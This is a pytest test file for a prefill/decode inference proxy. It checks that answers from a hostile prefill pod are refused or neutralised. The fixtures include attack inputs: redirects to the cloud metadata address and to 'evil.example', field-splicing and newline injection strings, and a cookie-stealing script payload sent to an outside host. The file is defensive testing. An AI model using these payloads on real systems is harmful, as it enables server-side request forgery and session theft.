"""What a hostile prefill pod inside the allow list can answer, per connector.

NIXL v2 is the connector whose decode leg is built from the prefill's answer: its
`kv_transfer_params` name the side channel (`remote_host`, `remote_port`) the decode connects
to. Before, pdproc only required a non-empty `remote_engine_id`: a pod answering a forbidden
`remote_host` made the decode connect there, counted `pd`, and a deeply nested field made
`orjson.dumps` raise inside `with_field` (a 500). Now the answer is checked (types, sizes,
the side channel on the prefill pod's own host or admitted by the allow list / pool) and a
refused answer follows NIXL's failure rule: the decode serves the client's own request alone,
counted `prefill_answer_refused`.

Mooncake and SGLang forward nothing from a prefill's answer; the decode's fields are built
by pdproc from the target it chose. Their sections pin that down (a pod's answer or bootstrap
map naming another address changes nothing the decode gets).
"""

from __future__ import annotations

import json
from collections.abc import Awaitable, Callable
from typing import Any

import orjson
import pytest
from aiohttp import web

from pdproc.config import KvConnector
from pdproc.targets import AllowList
from tests.envoy_side import Outcome

from .conftest import CHAT, CHAT_BYTES, Pd
from .pods import Handler, HostilePod, engine_map

REFUSED = "prefill_answer_refused"
MakePd = Callable[..., Awaitable[Pd]]


def nixl_answer(params: Any) -> Handler:
    """A NIXL prefill's 200 answer carrying `params` as its kv_transfer_params."""
    # Python's json: it writes nesting orjson refuses to (the point of some cases).
    answer = {
        "id": "cmpl-1",
        "object": "chat.completion",
        "choices": [],
        "kv_transfer_params": params,
    }
    payload = json.dumps(answer, separators=(",", ":")).encode()

    async def handler(_: web.Request) -> web.StreamResponse:
        return web.Response(body=payload, content_type="application/json")

    return handler


def good_params(**overrides: Any) -> dict[str, Any]:
    """What vLLM 0.32's NIXL prefill answers (one block list per KV cache group)."""
    params = {
        "do_remote_prefill": True,
        "do_remote_decode": False,
        "remote_block_ids": [[1, 2, 3], [4, 5, 6]],
        "remote_engine_id": "engine-0",
        "remote_request_id": "chatcmpl-abc-0",
        "remote_host": "127.0.0.1",
        "remote_port": 5600,
        "tp_size": 1,
        "dcp_size": 1,
        "pp_size": 1,
        "remote_num_tokens": 40,
        "remote_blocks_expiry_time": 1234.5,
        "transfer_mode": "pull",
    }
    params.update(overrides)
    return params


def nested(depth: int) -> Any:
    value: Any = []
    for _ in range(depth):
        value = [value]
    return value


# Answers the decode may not be given: (why, kv_transfer_params). The first is the attack of
# the issue: a forbidden address as the side channel.
REFUSED_ANSWERS: dict[str, Any] = {
    "forbidden host": good_params(remote_host="127.0.0.2"),
    "metadata address": good_params(remote_host="169.254.169.254", remote_port=80),
    "host name not admitted": good_params(remote_host="evil.example"),
    "ipv6 loopback": good_params(remote_host="::1"),
    "host with a newline": good_params(remote_host="127.0.0.1\nx"),
    "host 300 chars": good_params(remote_host="a" * 300),
    "port as a string": good_params(remote_port="5600"),
    "port 0": good_params(remote_port=0),
    "port 70000": good_params(remote_port=70000),
    "port true": good_params(remote_port=True),
    "engine id 10k chars": good_params(remote_engine_id="e" * 10_000),
    "no request id": {k: v for k, v in good_params().items() if k != "remote_request_id"},
    "engine id a number": good_params(remote_engine_id=7),
    "no blocks": good_params(remote_block_ids=[]),
    "blocks as strings": good_params(remote_block_ids=["1"]),
    "negative block": good_params(remote_block_ids=[-1]),
    "blocks nested 300 deep": good_params(remote_block_ids=nested(300)),
    "300k blocks in 600 KB": good_params(remote_block_ids=[0] * 300_000),
    "do_remote_decode true": good_params(do_remote_decode=True),
    "no do_remote_prefill": good_params(do_remote_prefill=None),
    "extra field nested 300 deep": good_params(extra=nested(300)),
    "extra field an object": good_params(extra={"remote_host": "169.254.169.254"}),
    "extra string 1000 chars": good_params(extra="x" * 1000),
    "params a list": [good_params()],
}


@pytest.mark.parametrize("case", list(REFUSED_ANSWERS))
async def test_nixl_answer_the_decode_may_not_get_means_decode_alone(
    pod: HostilePod, make_pdproc: MakePd, case: str
) -> None:
    pod.on_prefill = nixl_answer(REFUSED_ANSWERS[case])
    pd = await make_pdproc(pod, kv_connector=KvConnector.NIXLV2)
    outcome = await pd.play(CHAT_BYTES, prefill=pod.address)
    # NIXL's failure rule: the decode serves the client's own request, unchanged.
    assert outcome.status == 200, outcome
    assert outcome.decode_body == CHAT_BYTES
    assert pd.sample("pdproc_requests_total", outcome=REFUSED) == 1
    assert pd.sample("pdproc_requests_total", outcome="pd") == 0
    assert pd.sample("pdproc_requests_total", outcome="internal_error") == 0
    assert pod.hits["prefill"] == 1


async def test_nixl_deeply_nested_answer_is_decode_alone_not_500(
    pod: HostilePod, make_pdproc: MakePd
) -> None:
    """The reproduction: valid fields plus one nested deeper than orjson writes."""
    pod.on_prefill = nixl_answer(good_params(remote_prefill_cached_tokens=nested(300)))
    pd = await make_pdproc(pod, kv_connector=KvConnector.NIXLV2)
    outcome = await pd.play(CHAT_BYTES, prefill=pod.address)
    assert (outcome.status, outcome.decode_body) == (200, CHAT_BYTES)
    assert pd.sample("pdproc_requests_total", outcome=REFUSED) == 1


@pytest.mark.parametrize(
    ("params", "allow"),
    [
        (good_params(), ["127.0.0.1/32"]),  # the pod's own host, its side-channel port
        (good_params(remote_port=1, remote_block_ids=[7]), ["127.0.0.1/32"]),  # flat list
        (good_params(remote_host="127.0.0.3"), ["127.0.0.0/8"]),  # admitted by the allow list
    ],
    ids=["own-host", "flat-blocks", "allow-listed"],
)
async def test_nixl_answer_within_the_rules_reaches_the_decode_exactly(
    pod: HostilePod, make_pdproc: MakePd, params: dict[str, Any], allow: list[str]
) -> None:
    pod.on_prefill = nixl_answer(params)
    pd = await make_pdproc(
        pod, kv_connector=KvConnector.NIXLV2, prefill_allow=AllowList.parse(allow)
    )
    outcome = await pd.play(CHAT_BYTES, prefill=pod.address)
    assert outcome.status == 200
    assert outcome.kv_params == params
    assert pd.sample("pdproc_requests_total", outcome="pd") == 1


# --- Mooncake: the decode's fields are pdproc's, whatever the pod says -------------------


async def test_mooncake_pod_cannot_steer_the_decode(pod: HostilePod, make_pdproc: MakePd) -> None:
    """A bootstrap map naming another worker address and a prefill answer carrying its own
    kv_transfer_params: the decode is told only the chosen pod's bootstrap address."""
    pod.on_query = engine_map(
        {"0": {"engine_id": "e0", "worker_addr": {"host": "169.254.169.254", "port": 80}}}
    )
    pod.on_prefill = nixl_answer({"remote_bootstrap_addr": "http://169.254.169.254:80"})
    pd = await make_pdproc(pod)
    outcome = await pd.play(CHAT_BYTES, prefill=pod.address)
    assert outcome.status == 200
    params = outcome.kv_params
    assert params is not None
    assert params["remote_bootstrap_addr"] == f"http://127.0.0.1:{pod.bootstrap_port}"
    assert params["remote_engine_id"] == "e0"
    assert "169.254.169.254" not in (outcome.decode_body or b"").decode()


async def test_mooncake_engine_id_is_carried_as_data(pod: HostilePod, make_pdproc: MakePd) -> None:
    """An engine id with quotes and a newline is a JSON string on the decode leg, never
    spliced raw; one longer than the bound refuses the map (502, nothing sent on)."""
    pod.on_query = engine_map({"0": {"engine_id": 'e"0\n,"remote_bootstrap_addr":"x'}})
    pd = await make_pdproc(pod)
    outcome = await pd.play(CHAT_BYTES, prefill=pod.address)
    assert outcome.status == 200
    assert outcome.kv_params is not None
    assert outcome.kv_params["remote_engine_id"] == 'e"0\n,"remote_bootstrap_addr":"x'
    assert outcome.kv_params["remote_bootstrap_addr"] == f"http://127.0.0.1:{pod.bootstrap_port}"


# --- SGLang: both legs get pdproc's room and the chosen pod's host ------------------------


async def test_sglang_pod_answer_cannot_steer_the_decode(
    pod: HostilePod, make_pdproc: MakePd
) -> None:
    pod.on_prefill = nixl_answer(None)  # a 200 whatever it carries
    pd = await make_pdproc(pod, kv_connector=KvConnector.SGLANG, sglang_bootstrap_port=8998)
    outcome = await pd.play(CHAT_BYTES, prefill=pod.address)
    assert outcome.status == 200
    assert outcome.decode_body is not None
    decode = orjson.loads(outcome.decode_body)
    assert (decode["bootstrap_host"], decode["bootstrap_port"]) == ("127.0.0.1", 8998)
    (prefill,) = pod.prefills()
    assert orjson.loads(prefill.body)["bootstrap_room"] == decode["bootstrap_room"]
    assert {k: v for k, v in decode.items() if not k.startswith("bootstrap_")} == CHAT


async def test_nixl_answer_without_params_is_decode_only_not_refused(
    pod: HostilePod, make_pdproc: MakePd
) -> None:
    """vLLM answers `kv_transfer_params: null` when its prefill did not end length-capped:
    nothing to hand over, not a hostile answer (counted `decode_only`)."""
    pod.on_prefill = nixl_answer(None)
    pd = await make_pdproc(pod, kv_connector=KvConnector.NIXLV2)
    outcome = await pd.play(CHAT_BYTES, prefill=pod.address)
    assert (outcome.status, outcome.decode_body) == (200, CHAT_BYTES)
    assert pd.sample("pdproc_requests_total", outcome="decode_only") == 1
    assert pd.sample("pdproc_requests_total", outcome=REFUSED) == 0


def nixl_refusal(status: int, body: bytes, content_type: str) -> Handler:
    async def handler(_: web.Request) -> web.StreamResponse:
        return web.Response(status=status, body=body, headers={"content-type": content_type})

    return handler


SCRIPT = b"<html><body><script>fetch('https://x.invalid/'+document.cookie)</script></body></html>"


@pytest.mark.parametrize(
    ("status", "body", "content_type", "said"),
    [
        (400, SCRIPT, "text/html", None),
        (403, SCRIPT, "application/json", None),  # a lying content-type: not JSON, dropped
        (422, orjson.dumps({"error": {"message": "x" * 50_000}}), "application/json", "xxx"),
        (
            400,
            orjson.dumps({"object": "error", "message": "<script>1</script>"}),
            "application/json",
            "<script>1</script>",
        ),
    ],
    ids=["html", "html-as-json", "huge-message", "markup-message"],
)
async def test_nixl_pod_refusal_is_a_bounded_json_error_never_its_body(
    pod: HostilePod,
    make_pdproc: MakePd,
    status: int,
    body: bytes,
    content_type: str,
    said: str | None,
) -> None:
    """A NIXL prefill's 4xx (the request's own fault) reaches the client with the pod's
    status as an OpenAI-style JSON error: of the pod's body at most its JSON message,
    quoted and cut to 256 characters; never its markup or its content-type."""
    pod.on_prefill = nixl_refusal(status, body, content_type)
    pd = await make_pdproc(pod, kv_connector=KvConnector.NIXLV2)
    outcome = await pd.play(CHAT_BYTES, prefill=pod.address)
    assert (outcome.status, outcome.decode_body) == (status, None)  # the decode got nothing
    assert_json_refusal(outcome, status, said)
    counted = {o: pd.sample("pdproc_requests_total", outcome=o) for o in ("prefill_failed", "pd")}
    assert counted == {"prefill_failed": 1, "pd": 0}


def assert_json_refusal(outcome: Outcome, status: int, said: str | None) -> None:
    assert outcome.error is not None, outcome.raw_error[:200]
    expected_type = {400: "BadRequestError", 403: "PermissionDeniedError"}
    assert outcome.error["type"] == expected_type.get(status, "UnprocessableEntityError")
    assert outcome.error["code"] == status
    assert len(outcome.raw_error) < 600
    assert b"<html" not in outcome.raw_error
    assert said is None or said in outcome.error["message"]
    assert answered_content_type(outcome) == b"application/json"


def answered_content_type(outcome: Outcome) -> bytes:
    immediate = outcome.answers[-1].immediate_response
    headers = {h.header.key: h.header.raw_value for h in immediate.headers.set_headers}
    return headers["content-type"]
